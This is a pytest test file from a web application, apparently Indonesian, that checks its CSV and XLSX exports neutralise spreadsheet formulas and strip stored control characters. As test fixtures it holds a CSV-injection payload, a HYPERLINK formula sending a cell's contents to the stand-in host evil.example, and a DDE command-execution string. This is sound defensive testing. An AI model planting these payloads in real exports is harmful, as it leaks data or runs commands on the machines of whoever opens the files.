"""Exports are safe to open and never break (issue 21 items 5 and 6).

A title like ``=HYPERLINK(...)`` must not become a live formula (OWASP "CSV injection"), and a
control character stored before input refused them must not make every XLSX export answer 500.
Both exports: the viewer search (`/cari/export.*`) and the admin list (``?export=``).
"""

import csv
import io
import zipfile

import openpyxl
import pytest

from phenomena.models import Phenomenon
from phenomena.spreadsheet import safe_cell
from tests.search.conftest import SearchPhenomenonFactory, refresh_index

pytestmark = pytest.mark.usefixtures("search_backend")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")'
ADMIN_LIST = "/admin/snippets/phenomena/phenomenon/"


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body


def sheet_cells(body, sheet_name=None):
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    sheet = workbook[sheet_name] if sheet_name else workbook.worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def no_formulas(body):
    """No worksheet of the XLSX file holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


@pytest.fixture
def hostile(db):
    """An approved phenomenon whose texts start like formulas."""
    phenomenon = SearchPhenomenonFactory(
        title=FORMULA, narrative="+62 persen rumah tangga; -5 poin; @SUM(A1) sebagai narasi beras."
    )
    phenomenon.keywords.add("=cmd|' /C calc'!A0")
    phenomenon.save_revision().publish()
    refresh_index()
    return phenomenon


def test_safe_cell_follows_owasp():
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Harga beras naik") == "Harga beras naik"
    assert safe_cell("a\x1bb\x0bc\x07d\te\nf") == "abcd\te\nf"
    assert safe_cell(5) == 5 and safe_cell(None) is None
    # In XLSX the text stays as typed: the cell is written as text instead.
    assert safe_cell("=1+1", "xlsx") == "=1+1"


def test_search_csv_neutralises_formulas(client, viewer, hostile):
    client.force_login(viewer)
    rows = csv_rows(client.get("/cari/export.csv", {"q": "beras"}))
    row = next(r for r in rows[1:] if r and r[0] == str(hostile.pk))
    assert row[1] == "'" + FORMULA
    assert row[2].startswith("'+62 persen")
    assert row[13] == "'=cmd|' /C calc'!A0"


def test_search_xlsx_writes_text_never_formulas(client, viewer, hostile):
    client.force_login(viewer)
    response = client.get("/cari/export.xlsx", {"q": "beras"})
    assert response.status_code == 200
    body = xlsx(response)
    no_formulas(body)
    cells = {cell.value: cell for cell in sheet_cells(body, "Fenomena")}
    title = cells[FORMULA]
    assert title.data_type == "s"
    assert title.quotePrefix  # Excel keeps it text even when the cell is edited


def stored_before_the_rules(phenomenon, **fields):
    """Give `phenomenon` texts that input now refuses, as data stored before the rules."""
    Phenomenon.objects.filter(pk=phenomenon.pk).update(**fields)


def test_control_characters_in_old_data_do_not_break_exports(client, viewer, db):
    old = SearchPhenomenonFactory(title="Harga beras naik", narrative="Narasi beras naik.")
    stored_before_the_rules(
        old,
        title="Harga\x1b beras\x0b naik\x07",
        # (no NUL: PostgreSQL text cannot hold it, so no stored phenomenon has one)
        narrative="Narasi\x1b beras\x1f naik.\nBaris dua.",
    )
    refresh_index()
    client.force_login(viewer)
    response = client.get("/cari/export.xlsx", {"q": "beras"})
    assert response.status_code == 200
    values = [cell.value for cell in sheet_cells(xlsx(response), "Fenomena")]
    assert "Harga beras naik" in values
    assert "Narasi beras naik.\nBaris dua." in values
    rows = csv_rows(client.get("/cari/export.csv", {"q": "beras"}))
    assert rows[1][1] == "Harga beras naik"


def test_admin_list_exports_are_safe(client, admin_user, hostile, db):
    old = SearchPhenomenonFactory(title="Harga telur naik", narrative="Narasi telur.")
    stored_before_the_rules(old, title="Harga\x1b telur\x0b naik\x07")
    client.force_login(admin_user)

    response = client.get(ADMIN_LIST, {"export": "xlsx"})
    assert response.status_code == 200
    body = xlsx(response)
    no_formulas(body)
    cells = {cell.value: cell for cell in sheet_cells(body)}
    assert cells[FORMULA].data_type == "s" and cells[FORMULA].quotePrefix
    assert "Harga telur naik" in cells

    rows = csv_rows(client.get(ADMIN_LIST, {"export": "csv"}))
    titles = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in titles
    assert "Harga telur naik" in titles
    narratives = [row[1] for row in rows[1:]]
    assert any(n.startswith("'+62 persen") for n in narratives)
